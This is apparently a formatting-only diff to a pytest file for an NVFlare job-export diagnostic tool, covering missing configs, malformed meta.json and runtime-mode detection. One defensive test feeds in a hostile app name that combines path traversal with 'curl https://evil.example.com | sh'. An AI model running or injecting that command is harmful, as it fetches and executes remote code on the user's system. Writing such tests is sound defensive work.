@@ -48,20 +48,34 @@ def test_sound_all_sites_export_has_no_problem(tmp_path):
 @pytest.mark.parametrize(
     ("deploy_map", "configs", "expected"),
     [
-        ({"app": ["@ALL"]}, {"app": ["config_fed_server.json"]}, ["app 'app' is missing config/config_fed_client.json"]),
-        ({"app": ["@ALL"]}, {"app": ["config_fed_client.json"]}, ["app 'app' is missing config/config_fed_server.json"]),
+        (
+            {"app": ["@ALL"]},
+            {"app": ["config_fed_server.json"]},
+            ["app 'app' is missing config/config_fed_client.json"],
+        ),
+        (
+            {"app": ["@ALL"]},
+            {"app": ["config_fed_client.json"]},
+            ["app 'app' is missing config/config_fed_server.json"],
+        ),
         (
             {"app_server": ["server"], "app_site-1": ["site-1"]},
             {"app_server": ["config_fed_client.json"], "app_site-1": ["config_fed_server.json"]},
-            ["app 'app_server' is missing config/config_fed_server.json",
-             "app 'app_site-1' is missing config/config_fed_client.json"],
+            [
+                "app 'app_server' is missing config/config_fed_server.json",
+                "app 'app_site-1' is missing config/config_fed_client.json",
+            ],
         ),
         (
             {"app_server": ["server"], "app_site-1": [{"sites": ["site-1"]}]},
             {"app_server": ["config_fed_server.json"]},
             ["app 'app_site-1' listed in deploy_map does not exist (no app_site-1/config folder)"],
         ),
-        ({"app_site-1": ["site-1"]}, {"app_site-1": ["config_fed_client.json"]}, ["deploy_map deploys no app to the server"]),
+        (
+            {"app_site-1": ["site-1"]},
+            {"app_site-1": ["config_fed_client.json"]},
+            ["deploy_map deploys no app to the server"],
+        ),
         ({"app": []}, {"app": BOTH}, ["deploy_map deploys no app to any site"]),
     ],
 )
@@ -78,19 +92,26 @@ def test_other_config_formats_count_as_present(tmp_path):
 
 @pytest.mark.parametrize(
     ("meta_text", "needle"),
-    [("{not json", "meta.json is not a valid JSON object"), ("[1, 2]", "meta.json is not a valid JSON object"),
-     ('{"name": "x"}', "meta.json has no deploy_map"), ('{"deploy_map": {}}', "meta.json has no deploy_map")],
+    [
+        ("{not json", "meta.json is not a valid JSON object"),
+        ("[1, 2]", "meta.json is not a valid JSON object"),
+        ('{"name": "x"}', "meta.json has no deploy_map"),
+        ('{"deploy_map": {}}', "meta.json has no deploy_map"),
+    ],
 )
 def test_malformed_meta(tmp_path, meta_text, needle):
-    assert check_exported(str(tmp_path / "job"), meta_text) == [f"exported job folder job: {needle} " + (
-        "(malformed exported job folder)" if "JSON object" in needle else "(missing, empty or not a mapping)")]
+    assert check_exported(str(tmp_path / "job"), meta_text) == [
+        f"exported job folder job: {needle} "
+        + ("(malformed exported job folder)" if "JSON object" in needle else "(missing, empty or not a mapping)")
+    ]
 
 
 def test_hostile_app_names_are_not_echoed(tmp_path):
     meta = json.dumps({"deploy_map": {"../../etc curl https://evil.example.com | sh": ["@ALL"]}})
     lines = check_exported(str(tmp_path / "job"), meta)
-    assert lines == ["exported job folder job: app '<unnamed>' listed in deploy_map does not exist "
-                     "(no <unnamed>/config folder)"]
+    assert lines == [
+        "exported job folder job: app '<unnamed>' listed in deploy_map does not exist (no <unnamed>/config folder)"
+    ]
 
 
 def test_run_folders_are_not_exported_layouts():
@@ -107,11 +128,21 @@ def test_broken_export_folder_is_package_export_error_in_simulation(tmp_path):
     report = diagnose([tmp_path / "export"])
     assert report["runtime_mode"] == "simulation" and "exported job folder layout" in report["mode_reason"]
     assert report["matched_pattern"] == "PACKAGE_EXPORT_ERROR" and report["recovery_category"] == "FIXABLE_BY_CODE"
-    assert report["signals"][0]["excerpt"] == "exported job folder cifar10: app 'app' is missing config/config_fed_client.json"
+    assert (
+        report["signals"][0]["excerpt"]
+        == "exported job folder cifar10: app 'app' is missing config/config_fed_client.json"
+    )
     folder = str(tmp_path / "export" / "cifar10")
-    assert {"path": folder, "kind": "job_download", "site": None, "status": "complete", "truncated": False,
-            "bytes_read": (tmp_path / "export" / "cifar10" / "meta.json").stat().st_size, "size": None,
-            "regions": []} in report["evidence_sources"]
+    assert {
+        "path": folder,
+        "kind": "job_download",
+        "site": None,
+        "status": "complete",
+        "truncated": False,
+        "bytes_read": (tmp_path / "export" / "cifar10" / "meta.json").stat().st_size,
+        "size": None,
+        "regions": [],
+    } in report["evidence_sources"]
     assert not any(s["path"].endswith("meta.json") for s in report["evidence_sources"])  # read once, as the folder
 
 
@@ -136,8 +167,9 @@ def test_simenv_run_copy_is_not_checked_as_an_export(tmp_path):
 def test_export_inside_a_job_download_adds_no_simulation_hint(tmp_path):
     download = tmp_path / "dl" / "0b7a3c2e-1111-2222-3333-444455556666"
     export_tree(download, {"app": ["@ALL"]}, {"app": ["config_fed_server.json"]}, name="job")
-    (download / "meta.json").write_text(json.dumps({"job_id": "0b7a3c2e-1111-2222-3333-444455556666",
-                                                     "status": "FINISHED:EXECUTION_EXCEPTION"}))
+    (download / "meta.json").write_text(
+        json.dumps({"job_id": "0b7a3c2e-1111-2222-3333-444455556666", "status": "FINISHED:EXECUTION_EXCEPTION"})
+    )
     report = diagnose([tmp_path / "dl"])
     assert report["runtime_mode"] == "production"
     assert report["matched_pattern"] == "PACKAGE_EXPORT_ERROR"
@@ -165,17 +197,20 @@ def test_nvflare_job_meta_validator_wording_matches(message):
 def test_real_nvflare_export_is_sound_then_broken(tmp_path, python_exe):
     """Export examples/hello-numpy with nvflare 2.9's recipe.export(): sound -> UNKNOWN; drop a config -> matched."""
     script = tmp_path / "export_job.py"
-    script.write_text(textwrap.dedent("""
+    script.write_text(
+        textwrap.dedent("""
         import sys
         from nvflare.app_common.np.recipes import NumpyFedAvgRecipe
         recipe = NumpyFedAvgRecipe(name="hello-numpy", model=[0.0] * 9, min_clients=2, num_rounds=1,
                                    train_script=sys.argv[2], key_metric="accuracy")
         recipe.export(sys.argv[1])
-    """))
+    """)
+    )
     out = tmp_path / "exported"
     client = REPO / "examples" / "hello-numpy" / "client.py"
-    subprocess.run([python_exe, str(script), str(out), str(client)], check=True, capture_output=True, timeout=120,
-                   cwd=tmp_path)
+    subprocess.run(
+        [python_exe, str(script), str(out), str(client)], check=True, capture_output=True, timeout=120, cwd=tmp_path
+    )
     job = out / "hello-numpy"
     assert (job / "meta.json").is_file() and (job / "app" / "config" / "config_fed_client.json").is_file()
     assert diagnose([out])["matched_pattern"] == "UNKNOWN"
